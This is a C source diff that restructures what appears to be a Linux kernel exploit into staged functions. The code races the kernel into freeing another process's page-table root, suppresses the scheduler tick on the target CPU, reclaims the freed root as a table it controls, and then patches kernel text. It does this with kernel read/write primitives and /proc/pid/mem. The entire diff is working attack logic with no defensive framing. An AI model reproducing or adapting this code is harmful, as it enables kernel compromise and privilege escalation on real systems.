@@ -275,120 +275,177 @@ static void kill_children(void)
 	}
 }
 
-static enum outcome run(void)
+static struct {
+	struct task striker;
+	uint64_t root, frame;
+	unsigned int nr;		/* of tables that are used */
+} plan;
+
+static pid_t start_both(void)
 {
-	uint64_t frame, striker_root, waits, gone, tick;
-	unsigned int nr = 1, target, i, at;
-	struct task striker, own;
-	const int one = 1;
+	pid_t pid = start_striker();
 	char path[64];
-	pid_t pid, closer;
 	int fd;
 
+	if (!WAIT_FOR(sh->ready == 1) || ktask(pid, &plan.striker))
+		return -1;
+	snprintf(path, sizeof(path), "/proc/%d/mem", pid);
+	fd = open(path, O_RDONLY);
+	if (fd < 0)
+		return -1;
+	pid = start_closer(fd);
+	close(fd);
+	return WAIT_FOR(sh->ready == 2) ? pid : -1;
+}
+
+static enum outcome begin(void)
+{
 	memfd = memfd_create("tables", 0);
 	if (memfd < 0 || ftruncate(memfd, 4096) || !map_places(0, NR_TABLES))
 		return broken("no room");
 	touch(0);
 	sh->view = make_view();
-	pid = start_striker();
-	if (!WAIT_FOR(sh->ready == 1) || ktask(pid, &striker) || ktask(0, &own))
-		return broken("no striker");
-	snprintf(path, sizeof(path), "/proc/%d/mem", pid);
-	fd = open(path, O_RDONLY);
-	if (fd < 0)
-		return broken("cannot open %s", path);
-	closer = start_closer(fd);
-	close(fd);
-	if (closer < 0 || !WAIT_FOR(sh->ready == 2))
-		return broken("no closer");
-	striker_root = striker.pgd;
-	frame = frame_at((striker_root - direct_map_base()) / 4096);
-	sh->root_phys = striker_root - direct_map_base();
+	if (start_both() < 0)
+		return broken("no striker, or no closer");
+	plan.root = plan.striker.pgd;
+	plan.frame = frame_at((plan.root - direct_map_base()) / 4096);
+	sh->root_phys = plan.root - direct_map_base();
+	return WON;
+}
+
+/* As many roots as make the next one ask, and few tables besides them. */
+static enum outcome fill(void)
+{
+	unsigned int free, gone, i, at;
+
 	kill_children();
 	gone = count_records(false, NULL, 0);
 	if (gone != WANTED_GONE)
-		return broken("%lu roots are gone", (unsigned long)gone);
-	target = count_free();
-	for (i = 0; target > LEAVE_FREE && i < 8; i++) {
-		for (at = target - LEAVE_FREE; at && nr < NR_TABLES / 2; at--)
-			touch(nr++);
-		target = count_free();
+		return broken("%u roots are gone", gone);
+	plan.nr = 1;
+	free = count_free();
+	for (i = 0; free > LEAVE_FREE && i < 8; i++) {
+		for (at = free - LEAVE_FREE; at && plan.nr < NR_TABLES / 2; at--)
+			touch(plan.nr++);
+		free = count_free();
 	}
-	kread(striker_root, (void *)sh->snap, sizeof(sh->snap));
+	return WON;
+}
+
+static enum outcome remember_root(void)
+{
+	unsigned int i;
+
+	kread(plan.root, (void *)sh->snap, sizeof(sh->snap));
 	sh->nr = ENTRIES;
 	for (i = ENTRIES; i < 2 * ENTRIES; i++)
 		if (sh->snap[i]) {
 			half = 4096;
 			sh->nr = 2 * ENTRIES;
 		}
-	printf("# root 0x%lx frame 0x%x, %u gone, %u free, %u touched\n", striker_root, byte_at(frame),
-	       count_records(false, NULL, 0), target, nr);
-	fflush(stdout);
+	return WON;
+}
 
-	/* The first one waits for the mutex, of somebody who runs. */
-	kwrite64(bury_lock, striker.task);
+/* The first one waits for the mutex, of somebody who runs. */
+static enum outcome unlink_root(void)
+{
+	const int one = 1;
+
+	kwrite64(bury_lock, plan.striker.task);
 	set_lock(pgd_lock, true);
-	kwrite(striker.mm, &one, sizeof(one));
+	kwrite(plan.striker.mm, &one, sizeof(one));
 	sh->close_now = 1;
-	if (!WAIT_FOR((byte_at(frame) & LINK_MASK) == 0)) {
-		release_all();
-		kwrite64(bury_lock, 0);
-		return broken("the root was not unlinked: 0x%x", byte_at(frame));
-	}
+	if (WAIT_FOR((byte_at(plan.frame) & LINK_MASK) == 0))
+		return WON;
+	kwrite64(bury_lock, 0);
+	return broken("the root was not unlinked: 0x%x", byte_at(plan.frame));
+}
+
+/* That all have answered, and he waits for the lock of roots, does not show. */
+static enum outcome ask_once(void)
+{
+	int i;
+
 	usleep(2000);
 	for (i = 0; i < 5; i++)
 		set_lock(roots_lock, true);
 	WAIT_FOR(kread64(bury_lock + 8) >> 32);
 	kwrite64(bury_lock, 0);
-	if (!WAIT_FOR(count_records(true, NULL, 0) == WANTED_GONE)) {
-		release_all();
+	if (!WAIT_FOR(count_records(true, NULL, 0) == WANTED_GONE))
 		return broken("nobody asks for roots");
-	}
-	/* That all have answered, and he waits for the lock of roots, does not show. */
 	usleep(100000);
-	waits = count_records(true, NULL, 0);
-	/* The second one marks the root, and is kept from asking. */
+	return WON;
+}
+
+/* The second one marks the root, and is kept from asking. */
+static enum outcome mark_root(void)
+{
 	set_online(false);
 	kwrite64(bury_lock, 0);
 	set_lock(pgd_lock, false);
-	if (!WAIT_FOR(byte_at(frame) == GONE_FRAME)) {
-		release_all();
-		return broken("the root is not gone: 0x%x", byte_at(frame));
-	}
-	if (!WAIT_FOR(is_asked(striker_root))) {
-		release_all();
+	if (!WAIT_FOR(byte_at(plan.frame) == GONE_FRAME))
+		return broken("the root is not gone: 0x%x", byte_at(plan.frame));
+	if (!WAIT_FOR(is_asked(plan.root)))
 		return broken("nobody marked the root; %u touched, %u free", sh->touched, count_free());
-	}
-	/* No tick comes to who runs on it, for its handlers would find nothing. */
-	tick = ksymbol_cpu("tick_cpu_sched", STRIKER_CPU);
+	return WON;
+}
+
+/*
+ * No tick comes to who runs on it, for its handlers would find nothing. Then the first
+ * one goes on.
+ */
+static enum outcome free_root(void)
+{
+	uint64_t tick = ksymbol_cpu("tick_cpu_sched", STRIKER_CPU);
+
 	if (tick)
 		kwrite64(tick, kread64(tick) | TICK_STOPPED);
 	usleep(20000);
-	/* The first one goes on. */
 	set_lock(roots_lock, false);
-	if (!WAIT_FOR(byte_at(frame) != GONE_FRAME)) {
-		release_all();
-		return lost("the root is still gone");
-	}
-	for (at = nr; at < NR_TABLES; at++) {
-		touch(at);
-		if (kread64(striker_root + half + INDEX * 8) & PTE_PRESENT)
+	return WAIT_FOR(byte_at(plan.frame) != GONE_FRAME) ? WON : lost("the root is still gone");
+}
+
+static enum outcome take_root(void)
+{
+	for (; plan.nr < NR_TABLES; plan.nr++) {
+		touch(plan.nr);
+		if (kread64(plan.root + half + INDEX * 8) & PTE_PRESENT)
 			break;
 	}
-	if (at == NR_TABLES) {
-		release_all();
-		return lost("the root 0x%x did not become ours", byte_at(frame));
-	}
+	if (plan.nr == NR_TABLES)
+		return lost("the root 0x%x did not become ours", byte_at(plan.frame));
 	__sync_synchronize();
 	sh->go = 1;
-	if (!WAIT_FOR(sh->repaired)) {
-		release_all();
+	if (!WAIT_FOR(sh->repaired))
 		return lost("a root in use became a table of ours, and its CPU does not say so");
+	return WON;
+}
+
+static enum outcome go_through(enum outcome (*const steps[])(void))
+{
+	enum outcome outcome = WON;
+
+	for (; *steps && outcome == WON; steps++)
+		outcome = (*steps)();
+	return outcome;
+}
+
+static enum outcome run(void)
+{
+	static enum outcome (*const before[])(void) = { begin, fill, remember_root, NULL };
+	static enum outcome (*const held[])(void) = {
+		unlink_root, ask_once, mark_root, free_root, take_root, NULL
+	};
+	enum outcome outcome = go_through(before);
+
+	if (outcome != WON)
+		return outcome;
+	outcome = go_through(held);
+	if (outcome != WON) {
+		release_all();
+		return outcome;
 	}
 	set_online(true);
-	printf("# a CPU runs on our table: 0x%x, %lu waited, %u and %u touched\n", byte_at(frame), waits,
-	       sh->touched, at - nr);
-	fflush(stdout);
 	return patch_text_by(store_by_striker);
 }
 
